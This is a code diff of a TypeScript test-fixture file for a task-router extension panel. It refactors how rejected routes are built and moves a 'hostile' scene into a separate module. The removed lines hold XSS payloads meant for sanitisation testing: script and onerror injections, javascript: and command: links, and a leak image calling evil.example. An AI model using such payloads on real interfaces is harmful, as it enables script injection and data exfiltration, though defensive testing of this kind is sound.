@@ -1,6 +1,7 @@
 /** Every state in which the panel is looked at and tested: what the extension has sent when the reader looks. */
 import type { PanelUpdate, RouterEvent, Snapshot, TaskView } from '@task-router/protocol';
 import type { Tab } from '../src/state/ui-state.ts';
+import { hostileTask } from './hostile.ts';
 import {
   answer,
   candidate,
@@ -103,33 +104,6 @@ const longRoute = candidate(
   },
 );
 
-const hostileName = '<img src=x onerror="window.hostile=1"><script>window.hostile=2</script>](command:evil)';
-const hostileRoute = candidate(`evil/${hostileName}`, 'openai-compatible', [0.9, 0.8, 0.7, 0.6], {
-  label: hostileName,
-});
-
-/** Everything a hostile model may try; none of it may load, run or navigate. */
-export const hostileAnswer = `# <script>window.hostile = 3</script>
-
-<img src="https://evil.example/leak.png" onerror="window.hostile = 4"> <iframe src="https://evil.example/"></iframe>
-<style>body { display: none }</style> <form action="https://evil.example/"><button>go</button></form>
-
-![leak](https://evil.example/leak.png?secret) ![inline](data:image/png;base64,AAAA)
-
-[command](command:workbench.action.terminal.new) [script](javascript:window.hostile=5) [data](data:text/html,<script>window.hostile=6</script>)
-[http](http://evil.example/) [file](file:///etc/passwd) [vscode](vscode://evil/) [relative](/etc/passwd) [creds](https://user:pass@evil.example/)
-[fine](https://example.com/path?q=1) <https://example.com/auto> <javascript:alert(1)>
-
-[ref]: javascript:window.hostile=7
-[ref] and [quoted](https://example.com/" onclick="window.hostile=8)
-
-\`\`\`html "><img src=x onerror=window.hostile=9>
-<img src=x onerror="window.hostile=10">
-\`\`\`
-
-<svg onload="window.hostile=11"><a xlink:href="javascript:window.hostile=12">x</a></svg> <math><mtext><style><img src=x onerror=window.hostile=13></style></mtext></math>
-`;
-
 const many = [
   ...[sonnet, qwen, gpt, lab],
   ...Array.from({ length: 6 }, (_, index) =>
@@ -138,18 +112,17 @@ const many = [
     }),
   ),
   ...dropped,
-  rejected(
-    'claude/claude-opus-4-5',
-    'anthropic',
-    'policy.denied',
-    'The pattern claude/claude-opus* is denied.',
-    {
-      setting: 'Folder "api": taskRouter.policy.deny',
-    },
-  ),
-  rejected('openai/gpt-5', 'openai', 'health.ejected', '5 failures in the last minute; next probe in 40 s.', {
-    state: 'ejected',
+  rejected('claude/claude-opus-4-5', 'anthropic', {
+    code: 'policy.denied',
+    reason: 'The pattern claude/claude-opus* is denied.',
+    setting: 'Folder "api": taskRouter.policy.deny',
   }),
+  rejected(
+    'openai/gpt-5',
+    'openai',
+    { code: 'health.ejected', reason: '5 failures in the last minute; next probe in 40 s.' },
+    { state: 'ejected' },
+  ),
 ];
 
 const demoFirst = candidate('demo-careful/careful-1', 'anthropic', [0.8, 0.5, 0.9, 0.5], {
@@ -288,7 +261,9 @@ export const scenes = {
           candidates: [
             longRoute,
             sonnet,
-            rejected(`x/${longName}`, 'google', 'policy.localOnly', `Local only. ${longName}`, {
+            rejected(`x/${longName}`, 'google', {
+              code: 'policy.localOnly',
+              reason: `Local only. ${longName}`,
               setting: `Folder "${longName}": taskRouter.policy.localOnly = true`,
             }),
           ],
@@ -306,37 +281,7 @@ export const scenes = {
     ]),
     connected,
   ]),
-  hostile: scene([
-    snapshot([
-      task('t1', {
-        title: hostileName,
-        decision: decision('t1', {
-          route: hostileRoute.route,
-          summary: hostileName,
-          candidates: [
-            hostileRoute,
-            rejected(`x/${hostileName}`, 'google', 'policy.denied', hostileName, { setting: hostileName }),
-          ],
-          context: [{ file: hostileName, range: null, bytes: 1 }],
-          settings: [hostileName],
-        }),
-        transitions: [
-          {
-            from: hostileRoute.route,
-            to: qwen.route,
-            cause: 'server',
-            message: hostileName,
-            mode: 'restart',
-            atMs: Date.now(),
-          },
-        ],
-        text: hostileAnswer,
-        outcome: outcome({ route: hostileRoute.route }),
-        error: { code: hostileName.slice(0, 99), message: hostileName, next: hostileName },
-      }),
-    ]),
-    connected,
-  ]),
+  hostile: scene([snapshot([hostileTask]), connected]),
   disconnected: scene([
     snapshot([...earlier, task('t3', { text: answer.slice(0, 400) })]),
     { type: 'connection', state: 'disconnected', message: 'Trying again in 4 s.' },
